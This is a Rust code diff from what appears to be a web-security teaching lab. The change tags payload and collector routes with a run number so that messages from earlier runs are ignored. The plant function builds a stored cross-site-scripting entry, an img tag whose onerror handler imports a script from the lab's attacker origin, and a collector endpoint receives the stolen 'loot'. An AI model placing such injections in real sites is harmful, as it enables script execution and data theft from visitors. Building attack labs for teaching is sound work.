@@ -37,8 +37,8 @@ pub fn router(state: &LabState) -> Router<LabState> {
         .route("/{lab}/plant/{attack}", post(plant))
         .layer(for_control);
     let collector = Router::new()
-        .route("/{lab}/payloads/{name}", get(payload))
-        .route("/{lab}/collect", post(collect).get(collect_by_navigation))
+        .route("/{lab}/payloads/{run}/{name}", get(payload))
+        .route("/{lab}/collect/{run}", post(collect).get(collect_by_navigation))
         .layer(for_all);
     assets::router()
         .merge(notebook)
@@ -54,7 +54,7 @@ async fn page(State(state): State<LabState>, InLab(lab): InLab) -> Response {
 }
 
 /// What the injected scripts are.
-async fn payload(InLab(_): InLab, Path((_, name)): Path<(String, String)>) -> Response {
+async fn payload(InLab(_): InLab, Path((_, _, name)): Path<(String, u32, String)>) -> Response {
     let text = match &*name {
         "spy.js" => include_str!("pages/payloads/spy.js"),
         "xss-reads.js" => include_str!("pages/payloads/xss-reads.js"),
@@ -81,7 +81,8 @@ async fn plant(
     if !attack.is_script() {
         return StatusCode::NO_CONTENT;
     }
-    let url = format!("{}/{lab}/payloads/{}.js", state.origins.attacker.origin, attack.as_str());
+    let run = state.visitors.with(lab, |visit| visit.run).unwrap_or_default();
+    let url = format!("{}/{lab}/payloads/{run}/{}.js", state.origins.attacker.origin, attack.as_str());
     let entry = format!(r#"What a lovely bank! <img src="x" alt="" onerror="import('{url}')">"#);
     match state.thief.write(lab, entry).await {
         Ok(()) => StatusCode::NO_CONTENT,
@@ -110,22 +111,29 @@ struct ByAddress {
     message: String,
 }
 
-async fn collect(State(state): State<LabState>, InLab(lab): InLab, message: String) -> StatusCode {
-    receive(&state, lab, &message, "fetch")
+async fn collect(
+    State(state): State<LabState>,
+    InLab(lab): InLab,
+    Path((_, run)): Path<(String, u32)>,
+    message: String,
+) -> StatusCode {
+    receive(&state, lab, run, &message, "fetch")
 }
 
 async fn collect_by_navigation(
     State(state): State<LabState>,
     InLab(lab): InLab,
+    Path((_, run)): Path<(String, u32)>,
     Query(query): Query<ByAddress>,
 ) -> Response {
-    match receive(&state, lab, &query.message, "navigation") {
+    match receive(&state, lab, run, &query.message, "navigation") {
         StatusCode::NO_CONTENT => page(State(state), InLab(lab)).await,
         status => status.into_response(),
     }
 }
 
-fn receive(state: &LabState, lab: LabId, message: &str, via: &str) -> StatusCode {
+/// Takes a message of the present run; one of an earlier run comes too late to prove anything.
+fn receive(state: &LabState, lab: LabId, run: u32, message: &str, via: &str) -> StatusCode {
     let Ok(Message { notes, loot }) = serde_json::from_str(message) else {
         return StatusCode::BAD_REQUEST;
     };
@@ -138,9 +146,9 @@ fn receive(state: &LabState, lab: LabId, message: &str, via: &str) -> StatusCode
         proof,
         replays: Vec::new(),
     });
-    let kept = state.visitors.with(lab, |visit| keep(visit, notes, loot));
+    let kept = state.visitors.with(lab, |visit| if visit.run == run { keep(visit, notes, loot) } else { Ok(None) });
     match kept {
-        Some(Ok(Some((run, index)))) => {
+        Some(Ok(Some(index))) => {
             tokio::spawn(thief::replay(state.clone(), lab, run, index));
             StatusCode::NO_CONTENT
         }
@@ -151,13 +159,13 @@ fn receive(state: &LabState, lab: LabId, message: &str, via: &str) -> StatusCode
 }
 
 /// Where the loot is kept, if there is any.
-fn keep(visit: &mut Visit, notes: Vec<String>, loot: Option<Loot>) -> Result<Option<(u32, usize)>, ()> {
+fn keep(visit: &mut Visit, notes: Vec<String>, loot: Option<Loot>) -> Result<Option<usize>, ()> {
     let kept = loot.map(|loot| visit.keep_loot(loot).ok_or(())).transpose()?;
     for text in notes.into_iter().take(MAX_NOTES) {
         note(&mut visit.evidence.reports, text.chars().take(MAX_NOTE).collect());
     }
     note(&mut visit.evidence.reports, FINISHED.to_owned());
-    Ok(kept.map(|index| (visit.run, index)))
+    Ok(kept)
 }
 
 /// What the attacker has: its screen.
